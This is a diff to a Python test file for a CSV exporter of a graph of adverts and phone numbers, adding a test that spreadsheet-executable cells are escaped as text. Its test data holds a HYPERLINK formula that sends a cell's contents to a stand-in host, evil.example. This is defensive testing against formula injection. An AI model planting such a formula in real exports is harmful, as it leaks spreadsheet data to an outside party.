@@ -8,7 +8,7 @@ import json
 import zipfile
 from pathlib import Path
 
-from graph.export import Subgraph
+from graph.export import Edge, Evidence, Node, Subgraph
 from graph.export import csv as csv_export
 from tests.api.planted import HUB_EMAIL, PHONE_A
 
@@ -22,7 +22,8 @@ def test_every_node_and_edge_has_its_row(network_a: Subgraph) -> None:
     nodes = {row["id"]: row for row in rows(files["nodes.csv"])}
     assert len(nodes) == len(network_a.nodes) == len(rows(files["nodes.csv"]))
     for node in network_a.nodes:
-        assert (nodes[node.id]["kind"], nodes[node.id]["label"]) == (node.kind, node.label)
+        row = nodes[node.id]
+        assert (row["kind"], csv_export.unescape(row["label"])) == (node.kind, node.label)
         assert nodes[node.id]["hub"] == ("true" if node.properties["hub"] else "false")
     edges = {row["id"]: row for row in rows(files["edges.csv"])}
     assert len(edges) == len(network_a.edges) == len(rows(files["edges.csv"]))
@@ -32,9 +33,9 @@ def test_every_node_and_edge_has_its_row(network_a: Subgraph) -> None:
         assert row["source"] in nodes and row["target"] in nodes
         if edge.evidence:
             spans = json.loads(row["evidence"])
-            text = nodes[edge.source]["text"]
+            text = csv_export.unescape(nodes[edge.source]["text"])
             assert [text[s["start"] : s["end"]] for s in spans] == [e.value for e in edge.evidence]
-            assert row["evidence_values"] == "; ".join(e.value for e in edge.evidence)
+            assert csv_export.unescape(row["evidence_values"]) == "; ".join(e.value for e in edge.evidence)
             assert int(row["count"]) == edge.properties["count"]
         else:
             assert row["evidence"] == ""
@@ -60,3 +61,27 @@ def test_a_folder_a_zip_path_and_a_stream_hold_the_same_files(network_a: Subgrap
     csv_export.write(network_a, stream)
     with zipfile.ZipFile(io.BytesIO(stream.getvalue())) as archive:
         assert {name: archive.read(name) for name in archive.namelist()} == expected
+
+
+def test_cells_a_spreadsheet_would_run_are_written_as_text() -> None:
+    text = '=HYPERLINK("http://evil.example/?"&A1,"Boat to UK") call +44 7400 123456'
+    advert = Node("advert:x:1", "Advert", "@boat", {"hub": False, "text": text, "region": "-1+1"})
+    phone = Node("phone:+447400123456", "Phone", "+447400123456", {"hub": False, "e164": "+447400123456"})
+    start = text.index("+44")
+    evidence = Evidence(advert.id, text, start, start + 15, "+44 7400 123456")
+    mention = Edge(
+        f"MENTIONS:{advert.id}->{phone.id}", advert.id, phone.id, "MENTIONS", {"count": 1}, (evidence,)
+    )
+    subgraph = Subgraph("t", (advert, phone), (mention,), (), False)
+    files = csv_export.files(subgraph)
+    nodes = {row["id"]: row for row in rows(files["nodes.csv"])}
+    (edge,) = rows(files["edges.csv"])
+    written = [nodes[advert.id]["text"], nodes[advert.id]["label"], nodes[advert.id]["region"]]
+    written.append(edge["evidence_values"])
+    assert all(cell.startswith("'") for cell in written)
+    assert nodes[phone.id]["e164"] == "+447400123456"
+    plain = csv_export.unescape(nodes[advert.id]["text"])
+    assert plain == text
+    assert plain[start : start + 15] == "+44 7400 123456"
+    assert csv_export.unescape("''quoted") == "'quoted"
+    assert rows(csv_export.table(["a"], [{"a": "'quoted"}]))[0]["a"] == "''quoted"
